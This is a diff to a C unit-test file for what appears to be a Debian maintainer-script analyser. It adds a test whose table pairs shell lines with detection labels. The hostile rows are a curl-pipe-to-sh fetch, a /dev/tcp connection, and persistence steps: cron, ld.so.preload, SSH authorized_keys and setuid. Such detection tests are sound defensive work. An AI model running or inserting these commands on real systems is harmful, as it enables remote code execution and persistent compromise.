@@ -163,6 +163,37 @@ static void test_script(void **state)
                               SB_S("own:")));
 }
 
+static void test_deeds(void **state)
+{
+    static const struct {
+        const char *line, *word; /* NULL: none */
+    } rows[] = {
+        {"curl -fsSL https://x.invalid | sh", " fetches plants"},
+        {"  /usr/bin/wget -q x", " fetches"},
+        {"exec 3<>/dev/tcp/192.0.2.1/80", " fetches"},
+        {"echo aWQ= | base64 -d > /tmp/x", " decodes"},
+        {"echo '* * * * * root x' >> /etc/cron.d/x", " plants"},
+        {"printf x | tee -a \"/etc/ld.so.preload\"", " plants"},
+        {"echo x >> /root/.ssh/authorized_keys", " plants"},
+        {"chmod u+s /usr/bin/x", " plants"},
+        {"adduser --system curler", NULL},
+        {"rm -f /etc/cron.d/x", NULL},
+        {"echo curlew >/etc/x.conf", NULL},
+        {"base64 /etc/x", NULL},
+        {"chmod 0755 /usr/bin/x", NULL},
+        {"sha256sum < /etc/passwd > /dev/null", NULL},
+    };
+    (void)state;
+    for (size_t i = 0; i < SB_COUNT(rows); i++) {
+        char script[200];
+        snprintf(script, sizeof script, "#!/bin/sh\nset -e\n%s\n", rows[i].line);
+        sb_str command = sb_dpkg_script(sb_str_of(script), &arena);
+        sb_str deeds = sb_str_from(command, 4 + 16);
+        if (!sb_str_eq(deeds, sb_str_of(rows[i].word ? rows[i].word : "")))
+            fail_msg("%s: %.*s", rows[i].line, SB_FMT(command));
+    }
+}
+
 static void test_debhelper(void **state)
 {
     static const char *const lines[] = {
@@ -270,16 +301,10 @@ static void test_copyright_texts(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_want),
-        cmocka_unit_test(test_parts),
-        cmocka_unit_test(test_architectures),
-        cmocka_unit_test(test_resolve),
-        cmocka_unit_test(test_many_candidates),
-        cmocka_unit_test(test_script),
-        cmocka_unit_test(test_debhelper),
-        cmocka_unit_test(test_triggers),
-        cmocka_unit_test(test_copyright),
-        cmocka_unit_test(test_copyright_texts),
+        cmocka_unit_test(test_want),      cmocka_unit_test(test_parts),           cmocka_unit_test(test_architectures),
+        cmocka_unit_test(test_resolve),   cmocka_unit_test(test_many_candidates), cmocka_unit_test(test_script),
+        cmocka_unit_test(test_deeds),     cmocka_unit_test(test_debhelper),       cmocka_unit_test(test_triggers),
+        cmocka_unit_test(test_copyright), cmocka_unit_test(test_copyright_texts),
     };
     int failed = cmocka_run_group_tests(tests, NULL, NULL);
     sb_arena_done(&arena);
